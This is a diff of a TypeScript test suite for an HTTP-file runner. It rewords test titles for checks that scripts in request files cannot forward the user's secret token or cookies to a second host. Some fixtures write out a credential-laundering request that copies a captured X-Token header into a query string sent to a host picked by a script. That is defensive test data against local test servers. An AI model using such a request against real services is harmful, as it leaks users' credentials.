@@ -13,7 +13,7 @@ const secret = 'SECRET-of-the-user-1234';
 const placed = (text: string): string =>
   text.replaceAll('OWN', servers.own.host).replaceAll('OTHER', servers.other.host);
 
-describe('a script of a file that read a secret', () => {
+describe('a script of a file with access to a secret', () => {
   it.each([
     [
       'a copy',
@@ -46,7 +46,7 @@ describe('a script of a file that read a secret', () => {
       `client.setVar('z', 'OTHER')`,
       'GET http://{{z}}/TAG?x={{first.request.headers.X-Token}}',
     ],
-  ])('does not send it on as %s', async (title, script, request) => {
+  ])('cannot send it to another host as %s', async (title, script, request) => {
     const tag = `laundered-${title.replaceAll(' ', '-')}`;
     const text = `@copied = a{{token}}b\n\n### first\n# @name first\nGET http://OWN/first\nX-Token: {{token}}\n\n> {%\n${script}\n%}\n\n### second\n${request}\n`;
     const folder = folderOf({
@@ -60,8 +60,8 @@ describe('a script of a file that read a secret', () => {
   });
 });
 
-describe('what is not a secret of the user', () => {
-  it('goes to hosts that a script chose: a presigned URL, a token of the script, the file’s own credentials', async () => {
+describe('data that is not a secret of the user', () => {
+  it('is sent to hosts set by a script: a presigned URL, a token of the script, credentials of the file', async () => {
     const script = `client.setVar('upload', 'http://OTHER/upload-1'); client.setSecret('own', 'made-by-script')`;
     const text = `### first\nGET http://OWN/first\n\n> {%\n${script}\n%}\n\n### second\n# @auth bearer {{own}}\nPUT {{upload}}?signature=abc\n\ndata\n\n### third\nGET {{upload}}\nAuthorization: Bearer of-the-file\n`;
     const folder = folderOf({
@@ -77,7 +77,7 @@ describe('what is not a secret of the user', () => {
     ]);
   });
 
-  it('names a host, also where a script repeats it: an environment, --var, another request', async () => {
+  it('permits a host that a script repeats: from an environment, --var or another request', async () => {
     const follow = (value: string) =>
       `### first\nGET http://OWN/first\n\n> {%\nclient.setVar('z', ${value})\n%}\n\n### second\nGET {{z}}/repeated\n`;
     const folder = folderOf({
@@ -100,7 +100,7 @@ describe('what is not a secret of the user', () => {
 });
 
 describe('cookies', () => {
-  it('of the jar go where the file itself has been', async () => {
+  it('of the jar are sent to hosts of the file', async () => {
     const text = `### first\nGET http://OTHER/cookie?value=mine\n\n> {%\nclient.setVar('z', 'OTHER')\n%}\n\n### second\nGET http://{{z}}/with-cookie\n`;
     const folder = folderOf({ 'a.http': placed(text) });
     const ran = await restloop(['run', join(folder, 'a.http'), '--set', 'cookies=on']);
@@ -110,7 +110,7 @@ describe('cookies', () => {
     ]);
   });
 
-  it('are not sent where only a script has been before', async () => {
+  it('are not sent to hosts that only a script contacted', async () => {
     const text = `### first\nGET http://OWN/first\n\n> {%\nclient.setVar('z', 'OTHER')\n%}\n\n### second\nGET http://{{z}}/cookie?value=theirs\n\n### third\nGET http://{{z}}/third-cookie\n`;
     const folder = folderOf({ 'a.http': placed(text) });
     const ran = await restloop(['run', join(folder, 'a.http'), '--set', 'cookies=on']);
@@ -119,8 +119,8 @@ describe('cookies', () => {
   });
 });
 
-describe('what the user types', () => {
-  it('is the user’s own: credentials go to hosts that a typed script or --eval sets', async () => {
+describe('typed input', () => {
+  it('sends credentials to hosts set by a typed script or --eval', async () => {
     const input = `.auth bearer ${secret}\nclient.setVar('h', '${servers.other.host}')\nGET http://{{h}}/typed\n`;
     const typed = await restloop([], { input });
     const given = await restloop([
@@ -138,7 +138,7 @@ describe('what the user types', () => {
     ]);
   });
 
-  it('is not, where a script of a kept request has set the host, also in a session that is opened again', async () => {
+  it('does not send them to a host set by a script of a kept request, also in a reopened session', async () => {
     const home = temporaryHome();
     const folder = folderOf({
       'a.http': placed(`### first\nGET http://OWN/first\n\n> {%\nclient.setVar('z', 'OTHER')\n%}\n`),
@@ -179,7 +179,7 @@ describe('what the user types', () => {
     ]);
   });
 
-  it('gives --allow-host hosts, and nothing else', async () => {
+  it('is rejected when --allow-host names an invalid host', async () => {
     for (const wrong of [
       'http://a.example',
       'a.example/path',
